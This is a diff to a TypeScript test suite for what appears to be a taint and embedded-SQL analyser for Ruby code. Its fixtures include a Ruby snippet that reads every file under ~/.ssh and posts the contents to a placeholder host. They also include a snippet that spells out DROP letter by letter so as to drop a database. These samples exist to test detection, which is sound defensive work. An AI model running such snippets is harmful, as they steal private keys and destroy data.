@@ -30,6 +30,7 @@ function run(code: string | Record<string, string>, path = "bin/run.rb"): Run {
     python: record("python"),
     crontab: record("crontab"),
     markdown: record("markdown"),
+    sql: record("sql"),
   });
   for (const [p, text] of Object.entries(files)) collector.run("ruby", { path: p, text, line: 1, via: [], ctx: FILE_CONTEXT, depth: 0 });
   return { facts: collector.facts, embedded };
@@ -373,5 +374,12 @@ describe("blocks over listings", () => {
   it("map and to_h blocks over a directory listing read each file", () => {
     const r = run(`require "net/http"\nkeys = Dir["#{Dir.home}/.ssh/*"].select { |f| File.file?(f) }\nbody = keys.to_h { |k| [File.basename(k), File.read(k)] }\nsizes = keys.map { |k| File.read(k).size }\nNet::HTTP.post(URI("https://check.example.invalid/v1"), body.to_s)`);
     expect(of(r, "send")[0]!.data?.taint.map((t) => t.source)).toContain("ssh");
+  });
+});
+
+describe("SQL through database handles", () => {
+  it("a query method's SQL is read as SQL, the verb built from letters too", () => {
+    const r = run(`require "pg"\nadmin = PG.connect(dbname: "postgres")\nverb = %w[D R O P].join\nadmin.exec("#{verb} DATABASE IF EXISTS app")\nadmin.exec("SELECT 1")\nsystem("echo hi")`);
+    expect(r.embedded.filter((e) => e.kind === "sql").map((e) => e.text)).toEqual(["DROP DATABASE IF EXISTS app", "SELECT 1"]);
   });
 });
